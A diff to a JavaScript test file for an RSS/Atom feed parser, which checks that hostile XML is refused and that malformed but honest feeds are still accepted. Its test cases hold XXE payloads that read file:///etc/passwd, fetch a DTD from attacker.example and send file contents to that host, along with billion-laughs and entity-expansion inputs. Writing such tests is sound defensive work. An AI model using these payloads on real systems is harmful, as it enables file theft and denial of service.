@@ -21,19 +21,54 @@ describe('hostile XML is refused, with a code', () => {
     ['billion laughs', rss(`<!DOCTYPE rss [${laughs}]>`, '<title>&lol9;</title>'), 'entity-expansion', /entities would add more than 65,536 characters/],
     ['quadratic blowup (9,000 characters × 20,000)', quadratic, 'entity-expansion', /\(&a; alone is 9,000\)/],
     ['two DOCTYPEs', rss('<!DOCTYPE rss>\n<!DOCTYPE rss [<!ENTITY t "two">]>', '<title>&t;</title>'), 'repeated-doctype', /a second DOCTYPE at line 3/],
-    ['a parameter entity fetched from elsewhere', rss('<!DOCTYPE rss [<!ENTITY % pe SYSTEM "http://attacker.example/x.dtd"> %pe;]>', '<title>&exfil;</title>'), 'parameter-entity', /parameter entity %pe; in the DOCTYPE/],
-    ['a parameter entity declaring another', rss(`<!DOCTYPE rss [<!ENTITY % eval "<!ENTITY exfil 'boom'>"> %eval;]>`, '<title>&exfil;</title>'), 'parameter-entity', /%eval;/],
+    [
+      'a parameter entity fetched from elsewhere',
+      rss('<!DOCTYPE rss [<!ENTITY % pe SYSTEM "http://attacker.example/x.dtd"> %pe;]>', '<title>&exfil;</title>'),
+      'parameter-entity',
+      /parameter entity %pe; in the DOCTYPE/,
+    ],
+    [
+      'a parameter entity declaring another',
+      rss(`<!DOCTYPE rss [<!ENTITY % eval "<!ENTITY exfil 'boom'>"> %eval;]>`, '<title>&exfil;</title>'),
+      'parameter-entity',
+      /%eval;/,
+    ],
     [
       'out-of-band exfiltration (a parameter reference in a value)',
       rss(`<!DOCTYPE rss [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY send "http://attacker.example/?%file;">]>`, '<title>&send;</title>'),
       'parameter-entity',
       /parameter entity reference in the value of &send;/,
     ],
-    ['an external entity (SYSTEM "file:///etc/passwd")', rss('<!DOCTYPE rss [<!ENTITY exfil SYSTEM "file:///etc/passwd">]>', '<title>&exfil;</title>'), 'external-entity', /external entity &exfil; \(SYSTEM "file:\/\/\/etc\/passwd"\)/],
-    ['an external entity by public id', rss('<!DOCTYPE rss [<!ENTITY exfil PUBLIC "-//A//B//EN" "http://attacker.example/e">]>', '<title>&exfil;</title>'), 'external-entity', /PUBLIC "http:\/\/attacker\.example\/e"/],
-    ['5,000 entity declarations', rss(`<!DOCTYPE rss [${Array.from({ length: 5000 }, (_, i) => `<!ENTITY e${i} "v${i}">`).join('\n')}]>`, '<title>&e4999;</title>'), 'too-many-entities', /more than 1,000 entity declarations/],
-    ['elements nested 10,000 deep', rss('', `<title>deep</title><description>${'<x>'.repeat(10_000)}${'</x>'.repeat(10_000)}</description>`), 'nesting-too-deep', /nested more than 1,000 deep/],
-    ['an Atom feed with an external entity', `<!DOCTYPE feed [<!ENTITY exfil SYSTEM "file:///etc/passwd">]><feed xmlns="http://www.w3.org/2005/Atom"><title>&exfil;</title></feed>`, 'external-entity', /&exfil;/],
+    [
+      'an external entity (SYSTEM "file:///etc/passwd")',
+      rss('<!DOCTYPE rss [<!ENTITY exfil SYSTEM "file:///etc/passwd">]>', '<title>&exfil;</title>'),
+      'external-entity',
+      /external entity &exfil; \(SYSTEM "file:\/\/\/etc\/passwd"\)/,
+    ],
+    [
+      'an external entity by public id',
+      rss('<!DOCTYPE rss [<!ENTITY exfil PUBLIC "-//A//B//EN" "http://attacker.example/e">]>', '<title>&exfil;</title>'),
+      'external-entity',
+      /PUBLIC "http:\/\/attacker\.example\/e"/,
+    ],
+    [
+      '5,000 entity declarations',
+      rss(`<!DOCTYPE rss [${Array.from({ length: 5000 }, (_, i) => `<!ENTITY e${i} "v${i}">`).join('\n')}]>`, '<title>&e4999;</title>'),
+      'too-many-entities',
+      /more than 1,000 entity declarations/,
+    ],
+    [
+      'elements nested 10,000 deep',
+      rss('', `<title>deep</title><description>${'<x>'.repeat(10_000)}${'</x>'.repeat(10_000)}</description>`),
+      'nesting-too-deep',
+      /nested more than 1,000 deep/,
+    ],
+    [
+      'an Atom feed with an external entity',
+      `<!DOCTYPE feed [<!ENTITY exfil SYSTEM "file:///etc/passwd">]><feed xmlns="http://www.w3.org/2005/Atom"><title>&exfil;</title></feed>`,
+      'external-entity',
+      /&exfil;/,
+    ],
   ])('%s', async (_what, doc, code, reason) => {
     expect(parseFeed(doc)).toMatchObject({ ok: false, code });
     const result = await ingestFeed(bytes(doc), opts);
@@ -59,8 +94,19 @@ describe('broken-but-honest documents stay feeds', () => {
     ['HTML entities in RSS without a DTD', rss('', '<title>caf&eacute;&nbsp;&amp; more &hellip;</title>'), 'café\u00a0& more …'],
     ['an undefined entity, kept as written', rss('', '<title>testing &doesnotexist; entity</title>'), 'testing &doesnotexist; entity'],
     ['a bare ampersand', rss('', '<title>AT&T & friends</title>'), 'AT&T & friends'],
-    ['a small entity used in every place it fits', rss('<!DOCTYPE rss [<!ENTITY co "Example Co.">]>', `<title>&co; news</title><description>${'<p>&co;</p>'.repeat(500)}</description>`), 'Example Co. news'],
-    ['the XHTML entity sets by public id', rss('<!DOCTYPE rss [<!ENTITY % HTMLsymbol PUBLIC "-//W3C//ENTITIES Symbols for XHTML//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml-symbol.ent"> %HTMLsymbol;]>', '<title>&alpha; &rarr; &omega;</title>'), 'α → ω'],
+    [
+      'a small entity used in every place it fits',
+      rss('<!DOCTYPE rss [<!ENTITY co "Example Co.">]>', `<title>&co; news</title><description>${'<p>&co;</p>'.repeat(500)}</description>`),
+      'Example Co. news',
+    ],
+    [
+      'the XHTML entity sets by public id',
+      rss(
+        '<!DOCTYPE rss [<!ENTITY % HTMLsymbol PUBLIC "-//W3C//ENTITIES Symbols for XHTML//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml-symbol.ent"> %HTMLsymbol;]>',
+        '<title>&alpha; &rarr; &omega;</title>',
+      ),
+      'α → ω',
+    ],
     ['raw HTML with unclosed tags, closed by its parent', rss('', `<title>t</title><description>${'<p>para<br>'.repeat(200)}</description>`), 't'],
   ])('%s', async (_what, doc, title) => {
     const result = await ingestFeed(bytes(doc), opts);
